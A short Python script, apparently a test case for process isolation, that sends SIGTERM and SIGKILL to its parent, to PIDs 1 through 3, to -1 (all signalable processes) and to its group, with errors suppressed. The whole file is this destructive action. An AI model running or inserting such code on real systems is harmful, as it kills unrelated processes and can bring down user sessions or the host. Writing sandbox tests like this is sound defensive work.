"""Signals to the parent, to all processes, to the group."""

# lost: nothing

import contextlib
import os
import signal

for number in (os.getppid(), 1, 2, 3, -1, 0):
    for name in (signal.SIGTERM, signal.SIGKILL):
        if number not in (0, os.getpid()) and -number != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(number, name)
